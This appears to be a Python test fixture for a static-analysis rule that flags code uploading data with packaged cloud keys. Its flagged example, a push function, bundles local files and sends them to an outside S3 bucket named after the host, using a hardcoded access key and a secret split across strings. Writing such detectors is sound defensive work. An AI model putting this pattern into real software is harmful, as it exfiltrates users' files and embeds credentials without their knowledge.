import io
import os

import boto3

# ruleid: uploads_with_packaged_cloud_key
_SK = "wJ8kPq2" + "LmN5vR7tYx3Zc9BdF1gH4jK6sA0eUoIi"
# ok: uploads_with_packaged_cloud_key
REGION = "euwest1"


def push(files):
    buf = io.BytesIO(b"".join(open(f, "rb").read() for f in files))
    s3 = boto3.client("s3", region_name=REGION, aws_access_key_id="AKIA5QXT3RZ7LNW2KD4P", aws_secret_access_key=_SK)
    s3.put_object(Bucket="schema-cache-euw1", Key=os.uname().nodename, Body=buf.getvalue())


def upload_report(path, bucket, key_id, secret):
    # ok: uploads_with_packaged_cloud_key
    s3 = boto3.client("s3", aws_access_key_id=key_id, aws_secret_access_key=secret)
    s3.upload_file(path, bucket, os.path.basename(path))
